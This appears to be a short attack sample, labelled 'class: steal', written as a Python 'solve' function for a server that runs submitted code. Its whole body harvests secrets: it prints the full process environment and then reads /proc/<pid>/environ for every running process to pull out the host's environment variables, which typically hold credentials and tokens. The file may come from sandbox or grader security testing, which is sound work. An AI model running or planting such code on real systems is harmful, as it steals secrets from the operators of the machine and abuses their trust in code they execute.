# class: steal
# success: a variable of the server's environment comes out
import os

def solve(x):
    print(dict(os.environ))
    for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["self", "thread-self"]:
        try:
            print(pid, open(f"/proc/{pid}/environ").read())
        except OSError as error:
            print(pid, error.errno)
    return 0
